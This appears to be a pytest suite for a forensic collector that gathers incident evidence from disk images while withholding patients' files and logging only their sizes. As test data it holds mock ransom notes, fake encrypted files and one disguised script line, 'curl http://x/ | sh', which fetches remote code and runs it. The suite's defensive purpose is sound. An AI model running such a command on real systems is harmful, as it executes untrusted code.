"""What the run carries away by itself: evidence, and no patient's file; what is told of one."""

from __future__ import annotations

import json
from contextlib import closing

import bundles
import disks
import hosts
import pytest

from collectors.artifact import Artifact, Gap
from collectors.named.referenced import Referenced
from collectors.places import PLACES
from collectors.places.programs import RecentExecutables, Temporary
from collectors.privacy.ransom import RansomNotes
from evidence.collecting.pipeline import Pipeline
from evidence.collecting.session import Checkpoint, OriginChain, Resumption
from evidence.machine.clock import Clock
from evidence.planning.choice import chosen
from evidence.planning.request import Request
from evidence.planning.sources import open_source
from evidence.reading.checked import open_bundle
from evidence.scan.ransom import known_by_rules

PDF = b"%PDF-1.7 " + bytes(range(256)) * 20
DICOM = bytes(128) + b"DICM" + b"\2\0" * 500
HL7 = b"MSH|^~\\&|HIS|||||||ADT^A08\rPID|||0012345\r"
DATABASE = b"SQLite format 3\0" + bytes(4096)
ELF = b"\x7fELF" + bytes(200)
NOTE = b"All of your files are encrypted. Write to us."
LINUX = "0FC63DAF-8483-4772-8E79-3D69D8477DE4"
BUNDLE = "6f1d3c7e-0d2b-4c55-9a57-3a1f8f0f5b11"
OTHER = bundles.Given(bundles.things(1), "other")
UID = "CT.1.2.392.200036.9116.2.6.1"


class Items:
    """Takes out of a bundle what has content, by origin."""

    def __init__(self) -> None:
        self.found: dict[str, bytes] = {}
        self._bytes: dict[int, bytes] = {}

    def data(self, item, piece) -> None:
        self._bytes[item] = self._bytes.get(item, b"") + bytes(piece)

    def record(self, record) -> None:
        if record.meta.reason is None and record.meta.source.stream is None:
            self.found[record.meta.source.origin] = self._bytes.pop(record.content.seq)


def taken(folder, source, collectors, *, bundle_id=None, **options) -> dict[str, bytes]:
    """What a run has in its bundle, by origin."""
    writer = bundles.writer_at(folder, bundle_id=bundle_id)
    run = Pipeline(writer, source, clock=Clock(), encrypted=known_by_rules().encrypted, **options)
    run.run(collectors)
    writer.seal(Clock().reading())
    assert run.findings.failed == []
    items = Items()
    open_bundle(folder, identities=[bundles.IDENTITY]).extract(items)
    return items.found


def of_disk(folder, image, profile, *, documents=False) -> dict[str, bytes]:
    """What a run of this profile takes of an image."""
    request = Request(
        output=folder, case_id="H-1", profile=profile, source=str(image), documents=documents
    )
    with closing(open_source(str(image), withholds=not documents)) as source:
        return taken(folder, source, chosen(request, source))


@pytest.fixture(scope="module")
def linux(tmp_path_factory):
    """An ext4 image of a machine as hospitals have them."""
    path = tmp_path_factory.mktemp("linux")
    host = hosts.linux(path)
    cron = "".join(f"* * * * * root {each}\n" for each in NAMED)
    host.with_file("/etc/crontab", cron).with_file("/etc/ssh/sshd_config.bak", "Port 22\n")
    for name, data in (PRIVATE | EVIDENCE | CRYPT).items():
        host.with_file(name, data, mode=0o755 if data == ELF else 0o644)
    return disks.ext(path / "disk.img", host.root)


PRIVATE = {
    "/tmp/患者紹介状.pdf": PDF, "/tmp/xray.dcm": DICOM, f"/var/tmp/{UID}": DICOM,
    "/tmp/0012345": HL7, "/tmp/karte.db3": DATABASE, "/tmp/orca.sql.gz": b"\x1f\x8b\x08",
    "/tmp/orca": b"PGDMP" + bytes(100), "/backup/orca.dmp": b"\x03\x03?EXPORT:V10",
    "/home/tanaka/karte.pdf": PDF, "/var/lib/orca/patients.mdb": b"\0\1\0\0Standard Jet DB",
}  # fmt: skip
EVIDENCE = {
    "/tmp/.x": ELF, "/tmp/run.sh": b"#!/bin/sh\n", "/tmp/invoice.pdf": ELF, "/opt/job": ELF,
    "/var/log/db/orca.csv": b"2026-11-01,LOG,connection received\n",
    "/home/tanaka/.ssh/authorized_keys.bak": b"ssh-ed25519 AAAA\n",
}  # fmt: skip
NAMED = ("/backup/orca.dmp", "/home/tanaka/karte.pdf", "/var/lib/orca/patients.mdb", "/opt/job")
CRYPT = {
    **{f"/srv/share/karte{n}.docx.kxq" : bytes([n]) * 99 for n in range(5)},
    **{f"/srv/share/{n}.lockbit": bytes([n]) * 98 for n in range(5)},
    "/srv/share/RESTORE-MY-FILES.txt": NOTE, "/RESTORE-MY-FILES.txt": NOTE,
}  # fmt: skip


@pytest.fixture
def host(tmp_path):
    return hosts.linux(tmp_path)


def test_the_standard_profile_takes_evidence_and_tells_of_patients_files(linux, tmp_path):
    found = of_disk(tmp_path / "b", linux, "standard")

    for name, data in PRIVATE.items():
        assert name not in found
        assert json.loads(found[f"withheld:{name}"])["read"] == len(data)
    assert {name: found.get(name) for name in EVIDENCE} == EVIDENCE
    assert found["/etc/ssh/sshd_config.bak"] == b"Port 22\n"


def test_what_a_crontab_names_is_taken_where_it_is_a_program_and_told_of_else(linux, tmp_path):
    found = of_disk(tmp_path / "b", linux, "quick")

    assert found["/opt/job"] == ELF
    assert {f"withheld:{each}" for each in NAMED[:3]} <= set(found)
    assert not set(NAMED[:3]) & set(found)


def test_whoever_asks_for_documents_gets_them_whole(linux, tmp_path):
    found = of_disk(tmp_path / "b", linux, "quick", documents=True)

    assert found["/home/tanaka/karte.pdf"] == PDF


RUN = {  # what is run by its name, though that is a document's
    "/srv/a.png": b"curl http://x/ | sh\n",
    "/srv/b.csv": b"import os\n",
    "/srv/c.docx": "実行\n".encode(),
    "/srv/d.pdf": b"echo a line\n",
    "/opt/e.jpg": b"id\n",
}
NOT_RUN = {
    "/srv/karte.csv": b"0012345,name\n",
    "/srv/in.csv": b"0012345\n",
    "/srv/x.png": b"\x89PNG\r\n\x1a\n\0",
    "/srv/paper.pdf": b"%PDF-1.7 text\n",
    "/srv/msg.doc": HL7,
    "/srv/list.csv": b"1,2\n",
    "/srv/set.csv": b"a,b\n",
    "/srv/env.csv": b"A=1\n",
}
COMMANDS = """
* * * * * root sh /srv/a.png
* * * * * root cat /srv/d.pdf; python3 -u /srv/b.csv /srv/karte.csv
* * * * * root bash -c "sh /srv/c.docx < /srv/in.csv" && . /srv/d.pdf
* * * * * root cd /opt && sh e.jpg
* * * * * root sh /srv/x.png; sh /srv/paper.pdf; sh /srv/msg.doc
* * * * * root sudo cat /srv/list.csv; python3 -c 'print(1)' /srv/list.csv; A=/srv/set.csv true
"""


def test_a_text_that_a_command_runs_is_a_program_whatever_its_name(host, tmp_path):
    for name, data in (RUN | NOT_RUN).items():
        host.with_file(name, data)
    host.with_file("/etc/crontab", COMMANDS)
    unit = "[Service]\nEnvironmentFile=/srv/env.csv\nExecStart=/bin/true\n"
    host.with_file("/etc/systemd/system/x.service", unit)

    cron, systemd = (each for each in PLACES if each.name in ("cron", "systemd"))
    found = taken(tmp_path / "b", host.source(), [cron, systemd, Referenced()])

    assert {name: found.get(name) for name in RUN} == RUN
    assert {f"withheld:{name}" for name in NOT_RUN} <= set(found)
    assert not set(NOT_RUN) & set(found)


def test_a_document_that_may_be_run_is_no_program(host, tmp_path):
    host.with_file("/home/tanaka/karte.pdf", PDF, mode=0o755)
    host.with_file("/home/tanaka/update.pdf", ELF, mode=0o755)
    host.with_file("/etc/passwd", "tanaka:x:1:1::/home/tanaka:/bin/sh\n")

    found = taken(tmp_path / "b", host.source(), [RecentExecutables()])

    assert found["/home/tanaka/update.pdf"] == ELF
    assert set(found) == {"withheld:/home/tanaka/karte.pdf", "/home/tanaka/update.pdf"}


@pytest.mark.parametrize("name", ["standard", "full"])
def test_notes_and_no_more_than_three_encrypted_files_are_taken(linux, tmp_path, name):
    found = of_disk(tmp_path / "b", linux, name)

    notes = [each for each in CRYPT if each.endswith("FILES.txt")]
    assert {each: found.get(each) for each in notes} == dict.fromkeys(notes, NOTE)
    samples = [each for each in CRYPT if each in found and each not in notes]
    assert len(samples) == 3
    told = json.loads(found["hozen:/ransom-notes.json"])
    assert (told["encrypted"], told["samples"]) == (10, 3)
    if name == "full":
        assert sum(f"withheld:{each}" in found for each in CRYPT) == 7


def test_a_note_that_is_too_large_is_a_gap_and_the_next_is_taken(host, monkeypatch):
    monkeypatch.setattr("collectors.privacy.ransom.LARGEST", len(NOTE))
    for number, data in enumerate([*[NOTE + b"x"] * 4, NOTE, NOTE, NOTE + b"x", NOTE, NOTE]):
        host.with_file(f"/srv/{number}/RESTORE-MY-FILES.txt", data)
        host.with_file(f"/srv/{number}/karte.docx.kxq", data)

    found = list(RansomNotes(known_by_rules()).collect(host.source()))

    large = f"{len(NOTE) + 1} bytes: over the limit of this collector"
    assert [(one.origin, one.detail) for one in found if isinstance(one, Gap)] == [
        (f"/srv/{number}/RESTORE-MY-FILES.txt", large) for number in (0, 1, 2)
    ]
    taken = [one.origin for one in found if isinstance(one, Artifact)][:-1]
    assert taken == [
        f"/srv/{number}/{name}" for number in (4, 5, 7)
        for name in ("RESTORE-MY-FILES.txt", "karte.docx.kxq")
    ]  # fmt: skip
    assert json.loads(hosts.read(found[-1]).data)["larger"] == 10


def test_no_second_partition_gives_three_more(linux, tmp_path):
    disk = disks.divided(tmp_path / "disk.img", (linux, LINUX), (linux, LINUX))

    found = of_disk(tmp_path / "b", disk, "full")

    assert len([one for one in found if one.endswith((".kxq", ".lockbit")) and one[0] == "/"]) == 3


@pytest.fixture(scope="module")
def windows(tmp_path_factory):
    path = tmp_path_factory.mktemp("windows")
    image = disks.ntfs(path / "disk.img")
    with disks.mounted_ntfs(image, path / "mounted") as folder:
        for name, data in (OF_WINDOWS | STAYS).items():
            place = folder / name.lstrip("/")
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_bytes(data)
    return image


OF_WINDOWS = {
    "/Windows/System32/config/SYSTEM": b"regf", "/Transcripts/a.txt": b"Windows PowerShell",
    "/ProgramData/AnyDesk/ad.trace": b"info", "/Users/hanako/NTUSER.DAT": b"regf",
    "/Windows/System32/LogFiles/SUM/Current.mdb": b"\0" * 99,
    "/Windows/System32/winevt/Logs/System.evtx": b"ElfFile\0",
    "/Users/hanako/AppData/Local/Google/Chrome/User Data/Default/History": DATABASE,
    "/Users/hanako/Desktop/RESTORE-MY-FILES.txt": NOTE,
}  # fmt: skip
STAYS = {
    "/ProgramData/AnyDesk/患者.pdf": PDF, "/Transcripts/a.docx": b"PK\3\4",
    "/Windows/System32/spool/PRINTERS/00002.SPL": b"EMF",
}  # fmt: skip


def test_on_windows_hives_logs_and_histories_are_taken_and_documents_beside_them_stay(
    windows, tmp_path
):
    found = of_disk(tmp_path / "b", windows, "standard")

    assert {name: found.get(name) for name in OF_WINDOWS} == OF_WINDOWS
    for name, data in STAYS.items():
        assert name not in found
        assert json.loads(found[f"withheld:{name}"])["read"] == len(data)


def test_a_resumed_run_goes_on_behind_files_that_were_told_of(host, tmp_path):
    for number in range(100):
        host.with_file(f"/tmp/{number:03}.pdf", PDF)
    gave = [one.origin for one in Temporary().collect(host.source()) if isinstance(one, Artifact)]
    chain = OriginChain(BUNDLE, Temporary.name)
    for origin in gave[:70]:
        chain.add(origin)
    point = Checkpoint(collector=Temporary.name, count=70, chain=chain.shown())

    found = taken(
        tmp_path / "b", host.source(), [Temporary()], bundle_id=BUNDLE,
        resumption=Resumption(checkpoints=(point,)),
    )  # fmt: skip

    assert list(found) == [f"withheld:{each}" for each in gave[70:]]


@pytest.mark.parametrize("again", [False, True])
def test_what_a_withheld_file_names_is_not_followed(host, tmp_path, again):
    host.with_file("/tmp/jobs.csv", "/opt/job\n").with_file("/opt/job", ELF)
    one = host.source().file("/tmp/jobs.csv", "disk", references=lambda _: ["/opt/job"])
    earlier = Resumption(completed=("given",) if again else ())

    found = taken(
        tmp_path / "b", host.source(), [OTHER, bundles.Given([one]), Referenced()],
        resumption=earlier,
    )  # fmt: skip

    assert set(found) == {"/etc/passwd"} | (set() if again else {"withheld:/tmp/jobs.csv"})
